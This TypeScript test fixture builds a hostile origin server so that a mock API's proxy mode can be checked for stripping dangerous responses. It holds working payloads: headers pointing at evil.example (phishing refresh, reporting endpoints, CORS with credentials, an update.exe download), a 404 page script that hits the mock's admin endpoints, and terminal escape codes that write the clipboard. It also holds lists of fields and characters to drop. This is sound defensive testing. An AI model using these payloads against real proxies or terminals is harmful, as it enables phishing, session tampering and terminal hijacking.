/**
 * A deployment that attacks the origin of whatever relays it (`petstore-mock --proxy`): every answer
 * names hop-by-hop fields, grants CORS of its own, sets a cookie and clears the site's data; a read
 * is an HTML page with a script (a framework's 404 echoing the path), and a create echoes a pet named
 * with terminal escape codes. Written byte for byte: node:http would refuse some of these fields.
 */
import { createServer, type Server } from 'node:net';
import { type Deployment, listenOnLoopback } from './deployments.js';

/** A page a deployment's framework might answer a 404 with: it runs a script wherever it is served. */
export const HOSTILE_PAGE = `<!doctype html><title>not found</title><script>document.title = 'ran on ' + location.origin; fetch('/__mock/reset', { method: 'POST', headers: { 'x-mock-admin': '1' } }); fetch('/__mock/requests');</script>`;

/** Escape codes that clear the screen, set the window's title and write the clipboard (OSC 52). */
export const TERMINAL_ESCAPES = '\u001b[2J\u001b]0;owned\u0007\u001b]52;c;ZXZpbA==\u0007';

/** The characters a terminal acts on that `TERMINAL_ESCAPES` holds: none may reach a terminal. */
export const ACTING_CHARACTERS = ['\u001b', '\u0007', '\u009b'];

/** Every field that belongs to a connection or acts on the origin that serves it, and ones that are the deployment's own (`X-Request-Id`): none the spec documents. */
const HOSTILE_FIELDS = [
  'Connection: close, X-Hop-Secret',
  'X-Hop-Secret: 1',
  'Keep-Alive: timeout=600',
  'Proxy-Authenticate: Basic realm="deployment"',
  'Proxy-Connection: keep-alive',
  'TE: trailers',
  'Trailer: X-Checksum',
  'Upgrade: h2c',
  'Access-Control-Allow-Origin: https://evil.example',
  'Access-Control-Allow-Credentials: true',
  'Access-Control-Expose-Headers: X-Hop-Secret',
  'Set-Cookie: session=deployment; Path=/',
  'Clear-Site-Data: "*"',
  'Refresh: 0;url=https://evil.example/phish',
  'Service-Worker-Allowed: /',
  'Link: <https://evil.example/x.js>; rel=preload; as=script',
  'Content-Location: https://evil.example/pets',
  "Content-Security-Policy: script-src 'unsafe-inline'",
  'X-Request-Id: dropped-7',
  // What a second red team found relayed by the deny-list before (issue 34): each acts on the origin that serves it.
  'WWW-Authenticate: Basic realm="Enter your SSO password"',
  'Report-To: {"group":"e","max_age":9999,"endpoints":[{"url":"http://evil.example/r"}]}',
  'NEL: {"report_to":"e","max_age":9999}',
  'Reporting-Endpoints: e="http://evil.example/r"',
  'Content-Security-Policy-Report-Only: default-src none; report-uri http://evil.example/csp',
  'Speculation-Rules: "http://evil.example/rules.json"',
  'SourceMap: http://evil.example/x.map',
  'Content-Disposition: attachment; filename="update.exe"',
  'Permissions-Policy: camera=*',
  'Alt-Svc: h3=":443"',
  'Cache-Control: public, max-age=31536000, immutable',
  'Origin-Agent-Cluster: ?0',
  `X-Long: ${'v'.repeat(300)}`,
];

/** The fields of `HOSTILE_FIELDS` a relay must drop, by lower-case name. */
export const DROPPED_FIELDS = [
  'x-hop-secret',
  'keep-alive',
  'proxy-authenticate',
  'proxy-connection',
  'te',
  'trailer',
  'upgrade',
  'set-cookie',
  'clear-site-data',
  'access-control-allow-credentials',
  'refresh',
  'service-worker-allowed',
  'link',
  'content-location',
  'location',
  'x-request-id',
  'www-authenticate',
  'report-to',
  'nel',
  'reporting-endpoints',
  'content-security-policy-report-only',
  'speculation-rules',
  'sourcemap',
  'content-disposition',
  'permissions-policy',
  'alt-svc',
  'cache-control',
  'origin-agent-cluster',
  'x-long',
];

/** The answer to one request head: a 201 with the escaped pet to a POST, the HTML 404 to anything else. */
function answerTo(head: string): string {
  const create = head.startsWith('POST ');
  const body = create ? JSON.stringify({ id: 1, name: `Rex${TERMINAL_ESCAPES}`, categoryId: 1, status: 'available' }) : HOSTILE_PAGE;
  const fields = [
    create ? 'Content-Type: application/json' : 'Content-Type: text/html; charset=utf-8',
    // The created pet's own path, relayed; elsewhere, a redirect off the mock's origin, dropped.
    create ? 'Location: /v1/pets/1' : 'Location: https://evil.example/phish',
    ...HOSTILE_FIELDS,
    `Content-Length: ${Buffer.byteLength(body)}`,
  ];
  return `HTTP/1.1 ${create ? '201 Created' : '404 Not Found'}\r\n${fields.join('\r\n')}\r\n\r\n${body}`;
}

/** The hostile deployment on a free loopback port; it answers each request once its body has arrived, then closes the connection. */
export function hostileOriginDeployment(): Promise<Deployment> {
  const server: Server = createServer((socket) => {
    let received = '';
    socket.on('data', (chunk: Buffer) => {
      received += chunk.toString('latin1');
      const end = received.indexOf('\r\n\r\n');
      if (end === -1) return;
      const length = Number(/\r\ncontent-length:\s*(\d+)/i.exec(received.slice(0, end))?.[1] ?? 0);
      if (received.length - end - 4 >= length) socket.end(answerTo(received));
    });
    socket.on('error', () => {});
  });
  // A net.Server closes as an http.Server does, less closeAllConnections: this deployment ends each connection itself.
  return listenOnLoopback(Object.assign(server, { closeAllConnections: () => {} }) as never);
}
